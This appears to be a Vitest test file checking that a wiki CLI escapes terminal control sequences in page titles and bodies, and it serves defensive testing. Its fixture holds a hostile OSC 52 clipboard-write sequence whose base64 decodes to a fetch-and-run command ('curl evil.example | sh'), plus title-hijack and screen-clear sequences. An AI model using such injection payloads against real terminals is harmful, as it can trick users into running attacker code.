// A page can hold escape sequences (clipboard writes through OSC 52, screen clears, window titles,
// C1 controls): every line the CLI prints shows them as `\u001b` and the terminal obeys none.
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli-in-process.js';
import { makeWiki, page } from '../helpers/wiki-fixture.js';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const TITLE = '\u001b]0;owned\u0007';
const C1_CSI = '\u009b31m';
const HOSTILE = `${OSC52}${CLEAR}${TITLE}${C1_CSI}\u007f\r`;
/** Any control a terminal acts on: everything in C0, DEL and C1 but the line feed and the tab. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const hostileWiki = () =>
  makeWiki({
    'concepts/rotation.md': page({
      title: `Key rotation ${HOSTILE}`,
      type: 'concepts',
      body: `Rotate the deploy key every ninety days with the vault command ${HOSTILE} and record the date.\n`,
    }),
  });

describe('terminal output escapes control characters', () => {
  it('ask, in every format, shows the bytes and passes none of them through', async () => {
    const wiki = await hostileWiki();
    for (const format of ['text', 'markdown', 'json']) {
      const run = await runCli(['ask', '--wiki', wiki, '--format', format, 'How often is the deploy key rotated?'], wiki);
      expect(run.code, run.stderr).toBe(0);
      expect(run.stdout + run.stderr).not.toMatch(RAW_CONTROL);
      expect(run.stdout).toContain('\\u001b]52;c;');
      if (format === 'json') expect(JSON.stringify(JSON.parse(run.stdout))).toContain('\u009b31m'); // valid JSON, the bytes kept as data
    }
  });

  it('index --check names the stale index without its control bytes', async () => {
    const wiki = await hostileWiki();
    const run = await runCli(['index', '--check', '--wiki', wiki], wiki);
    expect(run.code).toBe(1);
    expect(run.stdout + run.stderr).not.toMatch(RAW_CONTROL);
    expect(run.stdout + run.stderr).toMatch(/index/);
  });
});
